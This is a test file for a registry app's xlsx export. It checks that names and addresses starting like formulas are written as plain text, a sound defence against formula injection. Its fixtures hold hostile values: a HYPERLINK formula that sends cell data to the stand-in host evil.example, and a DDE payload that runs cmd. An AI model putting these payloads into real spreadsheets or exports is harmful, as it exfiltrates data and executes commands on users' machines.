"""Formula injection: every xlsx export writes a text that starts like a formula
(= + - @, tab, CR) as text — no ``<f>`` element, a string cell, the quotePrefix
style — for the household list and the volunteer list alike."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.services import volunteers
from app.services.households import (
    HouseholdData,
    HouseholdFilter,
    MemberData,
    create_household,
    export_households_xlsx,
    write_xlsx,
)
from app.services.volunteers import VolunteerData
from app.services.volunteers import roster as volunteer_roster

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
DDE = '=cmd|" /C calc"!A0'
HOSTILE = [HYPERLINK, "+1+cmd", "@SUM(1+1)", "-2+3", "=1+1"]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def _assert_text_cells(path: Path, texts: list[str]) -> None:
    """Each of *texts* is in the file as a string cell with quotePrefix, and no formula."""
    texts = [t.replace("\r", "\n") for t in texts]  # XML reads a raw CR back as LF
    xml = _sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    wb = load_workbook(path)  # not read-only: styles are loaded
    ws = wb.worksheets[0]
    found = {}
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value in texts:
                found[cell.value] = cell
    assert sorted(found) == sorted(set(texts))
    for value, cell in found.items():
        assert cell.data_type == "s", value
        assert cell.quotePrefix is True, value
        ref = cell.coordinate
        tag = re.search(rf'<c r="{ref}"[^>]*>', xml)
        assert tag is not None and ('t="s"' in tag.group(0) or 't="inlineStr"' in tag.group(0))
        assert 's="' in tag.group(0)  # a style index: the quotePrefix cell format
    styles = zipfile.ZipFile(path).read("xl/styles.xml").decode()
    assert 'quotePrefix="1"' in styles


def test_household_export_writes_formula_like_names_and_addresses_as_text(
    station_db, tmp_path: Path
) -> None:
    db, admin = station_db
    for i, name in enumerate(HOSTILE):
        create_household(
            db,
            admin,
            HouseholdData(number=f"{i + 1:03d}", address=DDE, group_name="@组"),
            MemberData(name=name),
        )
    path = tmp_path / "户籍.xlsx"
    assert export_households_xlsx(db, HouseholdFilter(), path) == len(HOSTILE)
    _assert_text_cells(path, [*HOSTILE, "@组"])


def test_volunteer_export_writes_formula_like_names_and_addresses_as_text(
    station_db, tmp_path: Path
) -> None:
    db, admin = station_db
    for name in HOSTILE:
        volunteers.create_volunteer(db, admin, VolunteerData(name=name, address=DDE))
    path = tmp_path / "志愿者.xlsx"
    assert volunteer_roster.export_volunteers_xlsx(db, path) == len(HOSTILE)
    _assert_text_cells(path, [*HOSTILE, DDE])


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"])
def test_every_formula_start_is_written_as_text(tmp_path: Path, text: str) -> None:
    path = tmp_path / "x.xlsx"
    write_xlsx(path, "表", ["名称", "数量"], [[text, 3], ["普通", 4]])
    _assert_text_cells(path, [text])
    ws = load_workbook(path).worksheets[0]
    assert ws["B2"].value == 3 and ws["A3"].value == "普通"
    assert ws["A3"].quotePrefix is False  # ordinary text keeps the ordinary style


def test_error_codes_and_control_characters_are_plain_text(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    write_xlsx(path, "表", ["名称"], [["#N/A"], ["王\x07五\x00"]])
    ws = load_workbook(path).worksheets[0]
    assert (ws["A2"].value, ws["A2"].data_type) == ("#N/A", "s")
    assert ws["A3"].value == "王五"
